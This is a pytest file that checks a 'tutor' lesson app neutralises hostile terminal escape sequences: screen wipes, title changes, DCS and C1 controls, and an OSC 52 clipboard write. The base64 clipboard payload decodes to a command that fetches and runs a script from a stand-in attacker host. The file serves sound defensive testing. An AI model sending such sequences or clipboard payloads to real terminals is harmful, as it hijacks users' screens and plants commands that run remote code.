"""Issue 15 part 1, end to end: a lesson cell that prints, charts and raises escape
sequences (screen wipe, alternate screen, window title, OSC 52 clipboard write, DCS,
C1 controls) in the real ``tutor`` under tmux, and through ``tutor run``.

After the cell the app's screen is intact (title, footer, status line), tmux's paste
buffers are empty (the clipboard was not written) and the pane title is unchanged.
``tutor run`` prints no escape sequence at all into a pipe, and only SGR colours into
a terminal."""

from __future__ import annotations

import os
import pty
import re
import select
import shutil
import subprocess
import sys
import time
import uuid

import pytest

pytestmark = [pytest.mark.slow, pytest.mark.timeout(240)]

HOSTILE = r"\x1b[2J\x1b[?1049l\x1b[?1049h\x1b]0;PWNED-TITLE\x07\x1b]2;PWNED2\x1b\\" \
          r"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1bP+q544e\x1b\\\x9b2J\x9d0;C1\x9c\x1b"
LESSON = f"""---
id: hostile
title: Hostile output
summary: A cell that attacks the terminal.
minutes: 1
---

## Attack

The cell below prints escape sequences, draws charts with them and raises them.

```python
from tutor import live
H = "{HOSTILE}"
print("out:" + H + ":end")
live.plot([0, 1], [1, 2], label="line" + H, title="chart" + H)
live.images([[[0, 255], [255, 0]]], labels=["img" + H], title="grid" + H)
live.log(step=1, **{{"metric" + H: 1.0}})
raise ValueError("boom" + H)
```
"""
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
SGR = re.compile(r"\x1b\[[0-9;:]*m")


@pytest.fixture
def course(tmp_path):
    folder = tmp_path / "course"
    folder.mkdir()
    (folder / "00-hostile.md").write_text(LESSON)
    return folder


def test_tutor_run_prints_no_escape_into_a_pipe(course, tutor_home):
    out = subprocess.run([sys.executable, "-m", "tutor", "run", "--lessons", str(course), "hostile",
                          "--device", "cpu"], capture_output=True, timeout=200,
                         env={**os.environ, "TUTOR_HOME": str(tutor_home)})
    text = out.stdout.decode("utf-8", "replace")
    assert out.returncode == 1, text  # the cell raised
    assert "out:" in text and "ValueError: boom" in text, text
    assert not RAW.search(text.replace("\n", "").replace("\t", "")), repr(text)
    assert "PWNED" not in text and "Y3Vy" not in text


@pytest.mark.skipif(not hasattr(pty, "openpty"), reason="no pseudo-terminals here")
def test_tutor_run_prints_only_colours_into_a_terminal(course, tutor_home):
    leader, follower = pty.openpty()
    process = subprocess.Popen([sys.executable, "-m", "tutor", "run", "--lessons", str(course), "hostile",
                                "--device", "cpu"], stdout=follower, stderr=follower, stdin=subprocess.DEVNULL,
                               env={**os.environ, "TUTOR_HOME": str(tutor_home)})
    os.close(follower)
    data = b""
    deadline = time.monotonic() + 200
    while time.monotonic() < deadline:
        ready, _, _ = select.select([leader], [], [], 0.5)
        if ready:
            try:
                chunk = os.read(leader, 65536)
            except OSError:
                break
            if not chunk:
                break
            data += chunk
        elif process.poll() is not None:
            break
    process.wait(10)
    os.close(leader)
    text = data.decode("utf-8", "replace")
    assert "ValueError: boom" in text, text
    rest = SGR.sub("", text).replace("\r\n", "\n")
    assert not RAW.search(rest.replace("\n", "")), repr(rest)
    assert "PWNED" not in text


def tmux(socket: str, *args: str, check: bool = True) -> str:
    return subprocess.run(["tmux", "-L", socket, *args], capture_output=True, text=True, check=check).stdout


@pytest.mark.tmux
@pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")
def test_the_app_screen_and_clipboard_survive_a_hostile_cell(course, tutor_home):
    socket = f"tutor-hostile-{uuid.uuid4().hex[:8]}"
    env = {**os.environ, "TUTOR_HOME": str(tutor_home), "TERM": "xterm-256color"}
    command = f"{sys.executable} -m tutor --lessons {course} --device cpu hostile"
    subprocess.run(["tmux", "-L", socket, "-f", "/dev/null", "new-session", "-d", "-x", "100", "-y", "30",
                    "-s", "t", command], check=True, env=env)
    try:
        # make tmux as sensitive as a real terminal: OSC 52 fills its buffers, OSC 0/2 set titles
        tmux(socket, "set-option", "-g", "set-clipboard", "on")
        tmux(socket, "set-option", "-g", "allow-rename", "on")
        tmux(socket, "set-option", "-g", "allow-passthrough", "on", check=False)
        tmux(socket, "set-option", "-g", "remain-on-exit", "on")

        def screen() -> str:
            return tmux(socket, "capture-pane", "-p", "-t", "t")

        def wait_for(predicate, seconds: float) -> str:
            deadline = time.monotonic() + seconds
            shown = ""
            while time.monotonic() < deadline:
                shown = screen()
                if predicate(shown):
                    return shown
                time.sleep(0.2)
            raise AssertionError(f"timed out; the screen was:\n{shown}")

        wait_for(lambda s: "Hostile output" in s and "f5 Run" in s and "ready" in s, 120)
        title_before = tmux(socket, "display-message", "-p", "-t", "t", "#{pane_title}")
        assert tmux(socket, "list-buffers") == ""
        tmux(socket, "send-keys", "-t", "t", "F5")
        shown = wait_for(lambda s: "ValueError" in s and "boom" in s, 120)
        time.sleep(1.0)  # let every chart and image draw
        shown = screen()
        # the screen is intact: the lesson's title, the footer's keys, the status line
        assert "Hostile output" in shown, shown
        assert "f5 Run" in shown, shown
        assert "ready" in shown or "CPU" in shown, shown
        assert "PWNED" not in shown
        # the clipboard (tmux's paste buffers) is untouched, the pane title unchanged
        assert tmux(socket, "list-buffers") == ""
        assert tmux(socket, "display-message", "-p", "-t", "t", "#{pane_title}") == title_before
        assert "PWNED" not in tmux(socket, "display-message", "-p", "-t", "t", "#{window_name}")
        tmux(socket, "send-keys", "-t", "t", "C-q")
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            if tmux(socket, "display-message", "-p", "-t", "t", "#{pane_dead}", check=False).strip() == "1":
                break
            time.sleep(0.2)
        else:
            raise AssertionError("tutor did not quit on ctrl+q:\n" + screen())
    finally:
        subprocess.run(["tmux", "-L", socket, "kill-server"], capture_output=True)
